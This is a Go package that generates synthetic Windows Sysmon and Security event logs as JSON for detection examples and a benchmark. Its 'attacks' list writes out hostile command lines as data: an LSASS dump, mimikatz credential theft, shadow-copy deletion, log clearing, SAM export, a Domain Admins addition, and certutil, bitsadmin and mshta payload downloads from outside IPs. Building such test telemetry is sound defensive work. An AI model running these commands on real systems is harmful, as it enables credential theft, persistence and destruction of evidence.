// Package events generates Windows security events as JSON lines, in the shape
// of what Sysmon and the Windows event log give: sparse, 20 to 30 fields, about
// 930 bytes, a few hosts and users, mostly harmless. The same seed gives the
// same bytes. It makes the data of the examples and of benchmark W1.
package events

import (
	"fmt"
	"math/rand/v2"
	"strconv"
	"time"
)

// Generator writes one event after another.
type Generator struct {
	r     *rand.Rand
	now   time.Time
	n     int64
	hosts []string
	users []string
	// Attack is the share of events, 0 to 1, that are part of an attack.
	Attack float64
}

// New returns a generator with its own random numbers.
func New(seed uint64) *Generator {
	g := &Generator{r: rand.New(rand.NewPCG(seed, 0x52756e6e656c)), now: time.Date(2026, 3, 2, 8, 0, 0, 0, time.UTC), Attack: 0.01}
	for i := range 40 {
		g.hosts = append(g.hosts, fmt.Sprintf("WS%02d.corp.runnel.example", i+1))
	}
	g.hosts = append(g.hosts, "DC01.corp.runnel.example", "FS01.corp.runnel.example", "SQL01.corp.runnel.example")
	for _, u := range []string{"alice", "bob", "carol", "dmitri", "eun-ji", "fatima", "günther", "hiro", "ines", "jamal", "svc-backup", "svc-sql", "administrator"} {
		g.users = append(g.users, `CORP\`+u)
	}
	g.users = append(g.users, `NT AUTHORITY\SYSTEM`, `NT AUTHORITY\NETWORK SERVICE`, `NT AUTHORITY\LOCAL SERVICE`)
	return g
}

func pick[T any](g *Generator, from []T) T { return from[g.r.IntN(len(from))] }

var (
	programs = []string{
		`C:\Windows\System32\svchost.exe`, `C:\Windows\explorer.exe`, `C:\Windows\System32\taskhostw.exe`, `C:\Windows\System32\RuntimeBroker.exe`,
		`C:\Program Files\Google\Chrome\Application\chrome.exe`, `C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE`,
		`C:\Program Files\Microsoft Office\root\Office16\EXCEL.EXE`, `C:\Windows\System32\conhost.exe`, `C:\Windows\System32\backgroundTaskHost.exe`,
		`C:\Program Files\7-Zip\7zG.exe`, `C:\Windows\System32\SearchIndexer.exe`, `C:\Program Files\Windows Defender\MsMpEng.exe`,
		`C:\Windows\System32\wbem\WmiPrvSE.exe`, `C:\Windows\System32\lsass.exe`, `C:\Windows\System32\services.exe`, `C:\Windows\System32\cmd.exe`,
		`C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`, `C:\Program Files\Git\cmd\git.exe`, `C:\Windows\System32\notepad.exe`,
	}
	arguments = []string{
		` -k netsvcs -p -s Schedule`, ` -Embedding`, ` --type=renderer --lang=en-US --device-scale-factor=1 --num-raster-threads=4`,
		` /c "C:\ProgramData\corp\logon.bat"`, ` 0xffffffff -ForceV1`, ` -k LocalServiceNetworkRestricted -p`, ` "C:\Users\Public\Documents\report.xlsx"`,
		` -NoLogo -File C:\ProgramData\corp\inventory.ps1`, ` fetch --prune origin`, ``, ``, ` /factory,{75dff2b7-6936-4c06-a8bb-676a7b00b24b}`,
	}
	attacks = []struct{ image, line, parent string }{
		{`C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`, `powershell.exe -NoP -NonI -W Hidden -Enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA`, `C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE`},
		{`C:\Windows\System32\rundll32.exe`, `rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump 652 C:\Users\Public\l.dmp full`, `C:\Windows\System32\cmd.exe`},
		{`C:\Users\Public\mimi.exe`, `mimi.exe "privilege::debug" "sekurlsa::logonpasswords" exit`, `C:\Windows\System32\cmd.exe`},
		{`C:\Windows\System32\vssadmin.exe`, `vssadmin.exe delete shadows /all /quiet`, `C:\Windows\System32\cmd.exe`},
		{`C:\Windows\System32\certutil.exe`, `certutil.exe -urlcache -split -f http://198.51.100.23/a.txt C:\Users\Public\a.exe`, `C:\Windows\System32\cmd.exe`},
		{`C:\Windows\System32\net.exe`, `net  group "Domain Admins" eve /add /domain`, `C:\Windows\System32\cmd.exe`},
		{`C:\Windows\System32\schtasks.exe`, `schtasks /create /sc minute /mo 5 /tn Updater /tr C:\Users\Public\a.exe /ru SYSTEM`, `C:\Windows\System32\cmd.exe`},
		{`C:\Windows\System32\wevtutil.exe`, `wevtutil.exe cl Security`, `C:\Windows\System32\cmd.exe`},
		{`C:\Windows\System32\whoami.exe`, `whoami /priv`, `C:\inetpub\wwwroot\bin\w3wp.exe`},
		{`C:\Windows\System32\reg.exe`, `reg  save HKLM\SAM C:\Users\Public\sam.hiv`, `C:\Windows\System32\cmd.exe`},
		{`C:\Windows\System32\bitsadmin.exe`, `bitsadmin /transfer n http://203.0.113.9/p.bin C:\Users\Public\p.bin`, `C:\Windows\System32\cmd.exe`},
		{`C:\Windows\System32\mshta.exe`, `mshta.exe http://203.0.113.77/x.hta`, `C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE`},
	}
	domains = []string{"login.microsoftonline.com", "outlook.office365.com", "www.google.com", "update.corp.runnel.example", "time.windows.com", "github.com", "cdn.jsdelivr.net", "ctldl.windowsupdate.com"}
	keys    = []string{`HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Explorer\Advanced`, `HKU\S-1-5-21-4774-1001\Software\Microsoft\Office\16.0\Common`, `HKLM\System\CurrentControlSet\Services\bam\State\UserSettings`, `HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Run\Updater`}
)

// Append appends one event and a line end to dst.
func (g *Generator) Append(dst []byte) []byte {
	g.n++
	g.now = g.now.Add(time.Duration(g.r.IntN(40)) * time.Millisecond)
	attack := g.r.Float64() < g.Attack
	host, user := pick(g, g.hosts), pick(g, g.users)
	kind := g.r.IntN(100)
	e := &event{b: append(dst, '{')}
	e.str("record_id", fmt.Sprintf("ev%09d", g.n))
	e.str("ts", g.now.Format("2006-01-02 15:04:05.000"))
	switch {
	case attack || kind < 35:
		g.process(e, host, user, attack)
	case kind < 60:
		g.network(e, host, user)
	case kind < 75:
		g.registry(e, host, user)
	case kind < 85:
		g.dns(e, host, user)
	case kind < 93:
		g.file(e, host, user)
	default:
		g.logon(e, host, user)
	}
	e.b[len(e.b)-1] = '}'
	return append(e.b, '\n')
}

func (g *Generator) common(e *event, channel string, id int, host, task string) {
	e.str("Channel", channel)
	e.num("EventID", int64(id))
	e.str("host", host)
	e.str("Provider_Name", map[bool]string{true: "Microsoft-Windows-Security-Auditing", false: "Microsoft-Windows-Sysmon"}[channel == "Security"])
	e.str("ProviderGuid", "{5770385f-c22a-43e0-bf4c-06f5698ffbd9}")
	e.str("Level", "4")
	e.str("Keywords", "0x8000000000000000")
	e.str("Task", task)
	e.num("RecordNumber", 5_000_000+g.n)
	e.str("Version", "5")
	e.str("RuleName", "-")
}

func (g *Generator) guid() string {
	return fmt.Sprintf("{%08x-%04x-%04x-%04x-%012x}", g.r.Uint32(), g.r.Uint32()&0xffff, g.r.Uint32()&0xffff, g.r.IntN(16), g.r.Uint64()&0xffffffff)
}

func (g *Generator) hashes() string {
	return fmt.Sprintf("MD5=%016X%016X,SHA256=%016X%016X%016X%016X", g.r.Uint64(), g.r.Uint64(), g.r.Uint64(), g.r.Uint64(), g.r.Uint64(), g.r.Uint64())
}

func (g *Generator) process(e *event, host, user string, attack bool) {
	g.common(e, "Microsoft-Windows-Sysmon/Operational", 1, host, "Process Create (rule: ProcessCreate)")
	image, line, parent := pick(g, programs), "", pick(g, programs)
	line = image + pick(g, arguments)
	if attack {
		a := pick(g, attacks)
		image, line, parent = a.image, a.line, a.parent
	}
	e.str("UtcTime", g.now.Format("2006-01-02 15:04:05.000"))
	e.str("ProcessGuid", g.guid())
	e.num("ProcessId", int64(400+g.r.IntN(20000)))
	e.str("Image", image)
	e.str("CommandLine", line)
	e.str("CurrentDirectory", `C:\Windows\system32\`)
	e.str("User", user)
	e.str("LogonId", fmt.Sprintf("0x%x", g.r.IntN(1<<24)))
	e.num("TerminalSessionId", int64(g.r.IntN(3)))
	e.str("IntegrityLevel", pick(g, []string{"System", "Medium", "High", "Low"}))
	e.str("Hashes", g.hashes())
	e.str("ParentProcessGuid", g.guid())
	e.num("ParentProcessId", int64(400+g.r.IntN(20000)))
	e.str("ParentImage", parent)
	e.str("ParentCommandLine", parent+pick(g, arguments))
	e.str("Company", "Microsoft Corporation")
}

func (g *Generator) ip(inside bool) string {
	if inside {
		return fmt.Sprintf("10.%d.%d.%d", g.r.IntN(4), g.r.IntN(40), 1+g.r.IntN(254))
	}
	return fmt.Sprintf("%d.%d.%d.%d", 20+g.r.IntN(180), g.r.IntN(256), g.r.IntN(256), 1+g.r.IntN(254))
}

func (g *Generator) network(e *event, host, user string) {
	g.common(e, "Microsoft-Windows-Sysmon/Operational", 3, host, "Network connection detected (rule: NetworkConnect)")
	e.str("UtcTime", g.now.Format("2006-01-02 15:04:05.000"))
	e.str("ProcessGuid", g.guid())
	e.num("ProcessId", int64(400+g.r.IntN(20000)))
	e.str("Image", pick(g, programs))
	e.str("User", user)
	e.str("Protocol", pick(g, []string{"tcp", "tcp", "tcp", "udp"}))
	e.str("Initiated", "true")
	e.str("SourceIsIpv6", "false")
	e.str("SourceIp", g.ip(true))
	e.str("SourceHostname", host)
	e.num("SourcePort", int64(49152+g.r.IntN(16000)))
	e.str("DestinationIsIpv6", "false")
	e.str("DestinationIp", g.ip(g.r.IntN(3) > 0))
	e.str("DestinationHostname", pick(g, domains))
	e.num("DestinationPort", int64(pick(g, []int{443, 443, 443, 80, 445, 53, 88, 389, 3389, 5985, 4444, 8080})))
	e.str("DestinationPortName", "-")
}

func (g *Generator) registry(e *event, host, user string) {
	g.common(e, "Microsoft-Windows-Sysmon/Operational", 13, host, "Registry value set (rule: RegistryEvent)")
	e.str("EventType", "SetValue")
	e.str("UtcTime", g.now.Format("2006-01-02 15:04:05.000"))
	e.str("ProcessGuid", g.guid())
	e.num("ProcessId", int64(400+g.r.IntN(20000)))
	e.str("Image", pick(g, programs))
	e.str("TargetObject", pick(g, keys)+`\`+strconv.Itoa(g.r.IntN(1000)))
	e.str("Details", pick(g, []string{"DWORD (0x00000001)", "Binary Data", `C:\Windows\System32\ctfmon.exe`, "(Empty)"}))
	e.str("User", user)
	e.str("Company", "Microsoft Corporation")
	e.str("Hashes", g.hashes())
}

func (g *Generator) dns(e *event, host, user string) {
	g.common(e, "Microsoft-Windows-Sysmon/Operational", 22, host, "Dns query (rule: DnsQuery)")
	e.str("UtcTime", g.now.Format("2006-01-02 15:04:05.000"))
	e.str("ProcessGuid", g.guid())
	e.num("ProcessId", int64(400+g.r.IntN(20000)))
	name := pick(g, domains)
	if g.r.IntN(50) == 0 {
		name = fmt.Sprintf("%x.exfil.example", g.r.Uint64())
	}
	e.str("QueryName", name)
	e.str("QueryStatus", "0")
	e.str("QueryResults", "::ffff:"+g.ip(false)+";::ffff:"+g.ip(false)+";")
	e.str("Image", pick(g, programs))
	e.str("User", user)
	e.str("Company", "Microsoft Corporation")
	e.str("Hashes", g.hashes())
}

func (g *Generator) file(e *event, host, user string) {
	g.common(e, "Microsoft-Windows-Sysmon/Operational", 11, host, "File created (rule: FileCreate)")
	e.str("UtcTime", g.now.Format("2006-01-02 15:04:05.000"))
	e.str("ProcessGuid", g.guid())
	e.num("ProcessId", int64(400+g.r.IntN(20000)))
	e.str("Image", pick(g, programs))
	e.str("TargetFilename", fmt.Sprintf(`C:\Users\%s\AppData\Local\Temp\%08x.%s`, pick(g, []string{"alice", "bob", "carol"}), g.r.Uint32(), pick(g, []string{"tmp", "log", "dat", "exe", "ps1", "docx"})))
	e.str("CreationUtcTime", g.now.Format("2006-01-02 15:04:05.000"))
	e.str("User", user)
	e.str("Company", "Microsoft Corporation")
	e.str("Hashes", g.hashes())
}

func (g *Generator) logon(e *event, host, user string) {
	id := 4624
	if g.r.IntN(6) == 0 {
		id = 4625
	}
	g.common(e, "Security", id, host, "12544")
	e.str("SubjectUserSid", "S-1-5-18")
	e.str("SubjectUserName", host[:4]+"$")
	e.str("SubjectDomainName", "CORP")
	e.str("SubjectLogonId", "0x3e7")
	e.str("TargetUserSid", fmt.Sprintf("S-1-5-21-4774-%d", 1000+g.r.IntN(60)))
	e.str("TargetUserName", user)
	e.str("TargetDomainName", "CORP")
	e.str("LogonType", strconv.Itoa(pick(g, []int{2, 3, 3, 3, 5, 7, 10})))
	e.str("LogonProcessName", "Kerberos")
	e.str("AuthenticationPackageName", pick(g, []string{"Kerberos", "NTLM", "Negotiate"}))
	e.str("WorkstationName", host)
	e.str("IpAddress", g.ip(g.r.IntN(8) > 0))
	e.num("IpPort", int64(49152+g.r.IntN(16000)))
	e.str("ProcessName", `C:\Windows\System32\lsass.exe`)
	e.str("Hashes", g.hashes())
}

// event writes the members of one JSON object.
type event struct{ b []byte }

func (e *event) key(k string) {
	e.b = append(e.b, '"')
	e.b = append(e.b, k...)
	e.b = append(e.b, '"', ':')
}

func (e *event) str(k, v string) {
	e.key(k)
	e.b = append(e.b, '"')
	for i := 0; i < len(v); i++ {
		if v[i] == '"' || v[i] == '\\' {
			e.b = append(e.b, '\\')
		}
		e.b = append(e.b, v[i])
	}
	e.b = append(e.b, '"', ',')
}

func (e *event) num(k string, v int64) {
	e.key(k)
	e.b = append(strconv.AppendInt(e.b, v, 10), ',')
}
